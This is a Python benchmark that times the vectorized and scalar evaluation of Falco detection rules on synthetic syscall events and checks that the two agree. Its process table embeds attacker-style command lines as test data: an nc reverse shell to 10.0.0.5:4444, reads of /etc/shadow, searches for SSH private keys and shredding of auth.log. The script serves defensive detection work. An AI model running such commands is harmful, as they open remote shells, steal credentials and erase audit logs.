"""Rule evaluation throughput: the 25 stable Falco rules on a synthetic syscall event mix, one core.

Builds batches the way the enrichment stage does (process fields dictionary-encoded against a process table,
file names against a path table), evaluates them with the vectorized `Ruleset`, then runs the scalar
reference evaluator on a sample with the same event-type index and first-match order, checks both agree on
that sample, and prints events/s for each and the ratio.

    .venv/bin/python bench/bench_rules.py [--events 1000000] [--batch-size 131072] [--sample 20000]
"""

from __future__ import annotations

import argparse
import sys
import time
from pathlib import Path

import numpy as np
import pyarrow as pa

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from rules.columns import arrow_type_of  # noqa: E402
from rules.fields import REGISTRY  # noqa: E402
from rules.loader import load_rules  # noqa: E402
from rules.parser import parse_field_ref  # noqa: E402
from rules.ruleset import Ruleset  # noqa: E402
from rules.scalar import evaluate  # noqa: E402

STABLE_RULES = Path("/work/shared/peer/falco-rules/falco_rules.yaml")

# (event type, share of events): mostly I/O and memory syscalls no stable rule looks at.
EVENT_MIX = [
    ("read", 0.28), ("write", 0.18), ("close", 0.11), ("futex", 0.09), ("mmap", 0.06), ("fstat", 0.04),
    ("epoll_wait", 0.04), ("recvfrom", 0.03), ("openat", 0.10), ("execve", 0.02), ("connect", 0.015),
    ("sendto", 0.01), ("socket", 0.005), ("dup2", 0.004), ("symlinkat", 0.0005), ("linkat", 0.0005),
    ("ptrace", 0.0005), ("init_module", 0.0001),
]

# (name, exe path, args, parent, grandparent...) of the processes events come from.
PROCESSES = [
    ("nginx", "/usr/sbin/nginx", "-g daemon off;", ["containerd-shim", "systemd"]),
    ("python3", "/usr/bin/python3.11", "app.py --port 8000", ["gunicorn", "bash", "sshd", "systemd"]),
    ("java", "/usr/lib/jvm/bin/java", "-jar service.jar", ["containerd-shim", "systemd"]),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql", ["systemd"]),
    ("node", "/usr/local/bin/node", "server.js", ["npm", "sh", "containerd-shim", "systemd"]),
    ("bash", "/usr/bin/bash", "", ["sshd", "sshd", "systemd"]),
    ("sh", "/usr/bin/dash", "-c ls /tmp", ["nginx", "containerd-shim", "systemd"]),
    ("cat", "/usr/bin/cat", "/etc/shadow", ["bash", "sshd", "systemd"]),
    ("grep", "/usr/bin/grep", "-r BEGIN RSA PRIVATE /home", ["bash", "sshd", "systemd"]),
    ("ls", "/usr/bin/ls", "-la", ["bash", "sshd", "systemd"]),
    ("sshd", "/usr/sbin/sshd", "-D", ["systemd"]),
    ("systemd-journal", "/usr/lib/systemd/systemd-journald", "", ["systemd"]),
    ("containerd", "/usr/bin/containerd", "", ["systemd"]),
    ("kubelet", "/usr/bin/kubelet", "--config /var/lib/kubelet/config.yaml", ["systemd"]),
    ("redis-server", "/usr/bin/redis-server", "*:6379", ["containerd-shim", "systemd"]),
    ("nc", "/usr/bin/nc", "-e /bin/sh 10.0.0.5 4444", ["bash", "containerd-shim", "systemd"]),
    ("x", "/dev/shm/x", "", ["bash", "sshd", "systemd"]),
    ("find", "/usr/bin/find", "/ -name id_rsa", ["bash", "sshd", "systemd"]),
    ("shred", "/usr/bin/shred", "-u /var/log/auth.log", ["bash", "sshd", "systemd"]),
    ("curl", "/usr/bin/curl", "https://10.96.0.1:443/api", ["sh", "containerd-shim", "systemd"]),
]
PATHS = [f"/var/lib/app/data/{i:05d}.dat" for i in range(3000)] + [
    f"/usr/lib/x86_64-linux-gnu/lib{n}.so.{v}" for n in ("c", "ssl", "crypto", "z", "pthread") for v in range(5)
] + ["/etc/shadow", "/etc/sudoers", "/etc/passwd", "/etc/ld.so.cache", "/proc/self/status", "/dev/null",
     "/var/log/auth.log", "/root/.ssh/id_rsa", "/tmp/x", "/sys/fs/cgroup/memory/release_agent"]
CONTAINERS = [("host", None), ("3ad7b26ded6d", "docker.io/library/nginx"), ("8f2c11aa0b1e", "quay.io/app/api")]


def column_types(names: set[str]) -> dict[str, pa.DataType]:
    types = {}
    for name in names:
        ref = parse_field_ref(name)
        types[name] = arrow_type_of(ref, REGISTRY.get("syscall", ref.name))
    return types


def dictionary_column(codes: np.ndarray, values: list, arrow_type: pa.DataType) -> pa.Array:
    """Values picked per event from a small table, dictionary-encoded as the enrichment stage emits them."""
    dictionary = pa.array(values, type=arrow_type)
    if not pa.types.is_string(arrow_type):
        return dictionary.take(pa.array(codes))
    return pa.DictionaryArray.from_arrays(pa.array(codes.astype(np.int32)), dictionary)


def make_batch(size: int, rng: np.random.Generator, types: dict[str, pa.DataType]) -> pa.RecordBatch:
    names, shares = zip(*EVENT_MIX)
    shares = np.array(shares) / sum(shares)
    kind = rng.choice(len(names), size=size, p=shares)
    proc = rng.choice(len(PROCESSES), size=size, p=_process_weights())
    path = rng.integers(0, len(PATHS), size=size)
    path = np.where(rng.random(size) < 0.02, rng.integers(len(PATHS) - 10, len(PATHS), size=size), path)
    container = rng.integers(0, len(CONTAINERS), size=size)
    is_open = np.isin(kind, [names.index("openat")])
    is_net = np.isin(kind, [names.index(n) for n in ("connect", "sendto", "socket")])

    p = PROCESSES
    columns: dict[str, pa.Array] = {
        "evt.type": dictionary_column(kind, list(names), pa.string()),
        "proc.name": dictionary_column(proc, [x[0] for x in p], pa.string()),
        "proc.exe": dictionary_column(proc, [x[1] for x in p], pa.string()),
        "proc.exepath": dictionary_column(proc, [x[1] for x in p], pa.string()),
        "proc.args": dictionary_column(proc, [x[2] for x in p], pa.string()),
        "proc.cmdline": dictionary_column(proc, [f"{x[0]} {x[2]}".strip() for x in p], pa.string()),
        "proc.pname": dictionary_column(proc, [x[3][0] for x in p], pa.string()),
        "proc.pexe": dictionary_column(proc, [f"/usr/bin/{x[3][0]}" for x in p], pa.string()),
        "proc.pcmdline": dictionary_column(proc, [x[3][0] for x in p], pa.string()),
        "proc.aname": pa.array([x[3] for x in p], pa.list_(pa.string())).take(pa.array(proc)),
        "proc.cwd": dictionary_column(proc, ["/" if i % 3 else "/dev/shm/" for i in range(len(p))], pa.string()),
        "proc.tty": dictionary_column(proc, [34816 if x[3][0] == "bash" else 0 for x in p], pa.uint32()),
        "user.name": dictionary_column(proc, ["root" if i % 2 else "www-data" for i in range(len(p))], pa.string()),
        "user.uid": dictionary_column(proc, [0 if i % 2 else 33 for i in range(len(p))], pa.uint32()),
        "user.loginuid": dictionary_column(proc, [-1 if i % 2 else 1000 for i in range(len(p))], pa.int64()),
        "container.id": dictionary_column(container, [c[0] for c in CONTAINERS], pa.string()),
        "container.image.repository": dictionary_column(container, [c[1] for c in CONTAINERS], pa.string()),
        "container.privileged": dictionary_column(container, [False, True, False], pa.bool_()),
        "fd.name": _masked(dictionary_column(path, PATHS, pa.string()), is_open | np.isin(
            kind, [names.index(n) for n in ("read", "write", "close")])),
        "fd.typechar": dictionary_column(np.where(is_net, 1, 0), ["f", "4"], pa.string()),
        "fd.num": pa.array(np.where(rng.random(size) < 0.05, -1, rng.integers(3, 64, size=size))),
        "evt.is_open_read": pa.array(is_open & (rng.random(size) < 0.8)),
        "evt.is_open_write": pa.array(is_open & (rng.random(size) < 0.3)),
        "evt.arg.flags": _masked(dictionary_column(rng.integers(0, 3, size=size),
                                                   ["O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC", "O_RDWR"],
                                                   pa.string()), is_open),
        "evt.arg.target": _masked(dictionary_column(path, PATHS, pa.string()),
                                  kind == names.index("symlinkat")),
        "evt.rawres": pa.array(np.where(rng.random(size) < 0.1, -2, 0)),
        "evt.res": dictionary_column(np.where(rng.random(size) < 0.1, 1, 0), ["SUCCESS", "ENOENT"], pa.string()),
        "fd.sip": _masked(dictionary_column(rng.integers(0, 3, size=size), ["10.96.0.1", "8.8.8.8", "127.0.0.1"],
                                            pa.string()), is_net),
        "fd.sport": _masked(dictionary_column(rng.integers(0, 3, size=size), [443, 22, 4444], pa.uint16()), is_net),
        "fd.l4proto": _masked(dictionary_column(np.zeros(size, dtype=np.int64), ["tcp"], pa.string()), is_net),
        "proc.duration": pa.array(rng.integers(0, 10**11, size=size), pa.uint64()),
    }
    for name, arrow_type in types.items():
        if name not in columns:
            columns[name] = pa.nulls(size, arrow_type)  # the enrichment stage could not extract it
    return pa.record_batch(columns)


def _process_weights() -> np.ndarray:
    weights = np.array([30, 20, 20, 10, 10, 3, 1, 0.2, 0.1, 2, 3, 3, 3, 3, 3, 0.05, 0.05, 0.1, 0.05, 0.1])
    return weights / weights.sum()


def _masked(column: pa.Array, present: np.ndarray) -> pa.Array:
    """Null where the field does not apply to the event (no file descriptor, not a socket)."""
    if isinstance(column, pa.DictionaryArray):
        indices = pa.array(column.indices.to_numpy(), mask=~present)
        return pa.DictionaryArray.from_arrays(indices, column.dictionary)
    return pa.array(column.to_numpy(zero_copy_only=False), mask=~present, type=column.type)


def vectorized_rate(ruleset: Ruleset, batches: list[pa.RecordBatch], repeats: int) -> tuple[float, int]:
    best, matches = float("inf"), 0
    for _ in range(repeats):
        start = time.perf_counter()
        matches = sum(len(ruleset.evaluate(batch)) for batch in batches)
        best = min(best, time.perf_counter() - start)
    return sum(b.num_rows for b in batches) / best, matches


def scalar_first_match(rules: list, rows: list[dict]) -> tuple[float, list[int | None]]:
    """The scalar evaluator with the same event-type index and first-match order: (events/s, rule per row)."""
    by_type: dict[str | None, list[int]] = {}
    verdicts: list[int | None] = []
    start = time.perf_counter()
    for row in rows:
        event_type = row.get("evt.type")
        candidates = by_type.get(event_type)
        if candidates is None:
            candidates = by_type[event_type] = [
                i for i, r in enumerate(rules)
                if r.enabled and (r.event_types is None or event_type in r.event_types)]
        verdicts.append(next((i for i in candidates if evaluate(rules[i].condition, row, REGISTRY)), None))
    return len(rows) / (time.perf_counter() - start), verdicts


def vectorized_first_match(ruleset: Ruleset, batch: pa.RecordBatch) -> list[int | None]:
    verdicts: list[int | None] = [None] * batch.num_rows
    for hit in ruleset.evaluate(batch):
        for row in hit.rows:
            verdicts[row] = hit.rule_index
    return verdicts


def report(rows: list[tuple[str, str]]) -> None:
    try:
        from rich.console import Console
        from rich.table import Table
    except ImportError:
        for label, value in rows:
            print(f"{label:<44} {value}")
        return
    table = Table(title="Rule evaluation, one core")
    table.add_column("measure")
    table.add_column("value", justify="right")
    for label, value in rows:
        table.add_row(label, value)
    Console().print(table)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--batch-size", type=int, default=131_072)
    parser.add_argument("--sample", type=int, default=20_000, help="events given to the scalar evaluator")
    parser.add_argument("--repeats", type=int, default=3)
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args()
    pa.set_cpu_count(1)  # one core: no Arrow thread pool behind our back

    loaded = load_rules([str(STABLE_RULES)])
    if not loaded.ok:
        sys.exit("\n".join(error.render_text() for error in loaded.errors))
    start = time.perf_counter()
    ruleset = Ruleset(loaded.rules, rule_matching="first")
    compile_seconds = time.perf_counter() - start
    types = column_types(ruleset.required_fields)
    rng = np.random.default_rng(args.seed)
    batches = [make_batch(min(args.batch_size, args.events - done), rng, types)
               for done in range(0, args.events, args.batch_size)]

    vector_rate, matches = vectorized_rate(ruleset, batches, args.repeats)
    sample = batches[0].slice(0, args.sample)
    scalar_rate, scalar_verdicts = scalar_first_match(loaded.rules, sample.to_pylist())
    agree = scalar_verdicts == vectorized_first_match(ruleset, sample)
    # Also compare on events some rule watches only, where nearly all the matches are.
    watched = set().union(*(r.event_types or () for r in ruleset.active_rules))
    event_types = batches[0].column("evt.type").cast(pa.string()).to_pylist()
    rich = batches[0].take([i for i, t in enumerate(event_types) if t in watched][:args.sample])
    _, rich_verdicts = scalar_first_match(loaded.rules, rich.to_pylist())
    agree = agree and rich_verdicts == vectorized_first_match(ruleset, rich)
    rich_matches = sum(v is not None for v in rich_verdicts)

    report([
        ("rules (active / loaded)", f"{len(ruleset.active_rules)} / {len(loaded.rules)}"),
        ("columns provided", str(len(batches[0].schema))),
        ("events, batch size", f"{args.events:,}, {args.batch_size:,}"),
        ("compile time", f"{compile_seconds * 1000:.0f} ms"),
        ("matches (first-match alerts)", f"{matches:,}"),
        ("vectorized events/s per core", f"{vector_rate:,.0f}"),
        ("vectorized ns/event", f"{1e9 / vector_rate:.0f}"),
        (f"scalar events/s per core (sample {len(scalar_verdicts):,})", f"{scalar_rate:,.0f}"),
        ("speed-up vectorized / scalar", f"{vector_rate / scalar_rate:.1f}x"),
        (f"scalar = vectorized on {len(scalar_verdicts) + len(rich_verdicts):,} events "
         f"({rich_matches} matches)", "yes" if agree else "NO"),
    ])
    if not agree:
        sys.exit(1)


if __name__ == "__main__":
    main()
